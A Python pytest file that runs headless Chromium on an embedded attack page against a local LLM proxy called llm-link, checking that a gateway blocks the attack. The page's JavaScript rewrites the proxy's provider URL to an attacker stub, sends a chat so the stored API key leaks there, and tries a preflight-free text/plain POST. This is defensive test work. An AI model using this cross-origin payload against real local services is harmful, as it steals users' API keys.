"""A real browser (Debian's chromium, headless) runs an attack page against llm-link, with and without the gateway.

The page comes from another loopback origin (a local web app or dev server the user has open). Its script
tries what issue 11 measured: point llm-link's provider at an attacker with `switch-provider` (llm-link
keeps the stored key), chat so the key is sent there, and a `text/plain` "simple" POST that needs no
preflight. Without the gateway the attacker stand-in receives the key, which proves the test can fail.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import signal
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import missing
from tests.gateway.conftest import StartGateway
from tests.llmlink_harness import RunningLlmLink
from tests.upstream_stub import GOOD_KEY, UpstreamStub

pytestmark = pytest.mark.llmlink
# The flags this machine needs: no sandbox as root, no GPU, and no traffic of the browser's own.
# --password-store=basic: on a session bus (scripts/run-tests has one) chromium otherwise asks the Secret
# Service for its own keyring, D-Bus starts a gnome-keyring-daemon, and its create-keyring prompt stalls the
# page until the report times out (seen: every browser test failing after 60 s under dbus-run-session).
CHROMIUM_FLAGS = (
    "--headless",
    "--password-store=basic",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
REPORT_TIMEOUT = 60.0

ATTACK_PAGE = """<!doctype html>
<title>a web page the user happens to have open</title>
<script>
const target = %(target)s, attacker = %(attacker)s;
const results = {};
async function attempt(name, request) {
  try {
    const response = await request();
    results[name] = {status: response.status, type: response.type};
  } catch (error) {
    results[name] = {error: String(error)};
  }
}
const json = {"Content-Type": "application/json"};
const chat = JSON.stringify({model: "gpt-4o", messages: [{role: "user", content: "hi"}], stream: false});
(async () => {
  await attempt("switch", () => fetch(target + "/api/config/switch-provider", {method: "POST", headers: json,
    body: JSON.stringify({provider: "openai", model: "gpt-4o", base_url: attacker})}));
  await attempt("chat", () => fetch(target + "/api/chat", {method: "POST", headers: json, body: chat}));
  await attempt("simple", () => fetch(target + "/api/chat", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: chat}));
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>
"""


class PageServer:
    """Serves the attack page on `host` and takes the page's report of what each attempt got."""

    def __init__(self, host: str, target: str, attacker: str) -> None:
        self.page = (ATTACK_PAGE % {"target": json.dumps(target), "attacker": json.dumps(attacker)}).encode()
        self.report: dict[str, Any] | None = None
        self.reported = threading.Event()
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(server.page)))
                self.end_headers()
                self.wfile.write(server.page)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                server.report = json.loads(body)
                self.send_response(204)
                self.end_headers()
                server.reported.set()

        self.httpd = ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self.httpd.server_address[1]}/attack.html"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def chromium() -> str:
    path = shutil.which("chromium")
    if path is None:
        missing("Debian's chromium is not installed")
    assert path is not None
    return path


@pytest.fixture
def attacker() -> Iterator[UpstreamStub]:
    """The attacker's server: records whatever key llm-link sends it."""
    stub = UpstreamStub(good_key="sk-the-attacker-has-no-key-of-its-own").start()
    yield stub
    stub.stop()


async def run_page(chromium: str, profile: Path, page_host: str, target: str, attacker: UpstreamStub) -> dict[str, Any]:
    """Open the attack page in headless chromium and return what its script reported."""
    page = PageServer(page_host, target, attacker.url)
    proc = await asyncio.create_subprocess_exec(
        chromium,
        *CHROMIUM_FLAGS,
        f"--user-data-dir={profile}",
        page.url,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        reported = await asyncio.to_thread(page.reported.wait, REPORT_TIMEOUT)
        assert reported, f"the page in chromium did not report within {REPORT_TIMEOUT:g}s"
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        await proc.wait()
        page.close()
    assert page.report is not None
    return page.report


def keys_received(stub: UpstreamStub) -> list[str | None]:
    return [seen.authorization for seen in stub.requests]


async def test_a_web_page_steals_the_key_from_llmlink_directly(
    chromium: str, tmp_path: Path, openai_llmlink: RunningLlmLink, attacker: UpstreamStub
) -> None:
    """Without the gateway: the attack works. This is the test proving the next one can fail."""
    report = await run_page(chromium, tmp_path / "profile", "127.0.0.2", openai_llmlink.url, attacker)
    assert report["switch"]["status"] == 200, report
    assert f"Bearer {GOOD_KEY}" in keys_received(attacker), report


async def test_through_the_gateway_every_attempt_is_blocked_and_no_key_leaves(
    chromium: str,
    tmp_path: Path,
    openai_llmlink: RunningLlmLink,
    start_gateway: StartGateway,
    attacker: UpstreamStub,
    upstream: UpstreamStub,
) -> None:
    gw = await start_gateway(openai_llmlink)
    report = await run_page(chromium, tmp_path / "profile", "127.0.0.2", gw.url, attacker)
    assert "error" in report["switch"] and "error" in report["chat"], report  # preflights refused: no grant
    assert attacker.requests == []
    assert not [seen for seen in upstream.requests if seen.path.endswith("/chat/completions")]  # no quota spent
    stats = await gw.control("stats")
    (browser,) = [c for c in stats["clients"] if "Chrome" in c["client"]]
    # Two preflights and the simple POST, refused at the gateway; nothing reached llm-link.
    assert (browser["blocked"], browser["requests"]) == (3, 0), browser


async def test_an_allowed_local_page_still_cannot_reach_the_settings(
    chromium: str, tmp_path: Path, openai_llmlink: RunningLlmLink, start_gateway: StartGateway, attacker: UpstreamStub
) -> None:
    """A page on an allowed origin (127.0.0.1, as a dev server) may chat, as with Ollama, but not reconfigure."""
    gw = await start_gateway(openai_llmlink)
    report = await run_page(chromium, tmp_path / "profile", "127.0.0.1", gw.url, attacker)
    assert "error" in report["switch"], report  # its preflight got a 404: the POST was never sent
    assert report["chat"]["status"] == 200, report
    assert attacker.requests == []
    (browser,) = [c for c in (await gw.control("stats"))["clients"] if "Chrome" in c["client"]]
    assert (browser["blocked"], browser["requests"]) == (1, 2), browser  # the 404 preflight; chat and simple POST
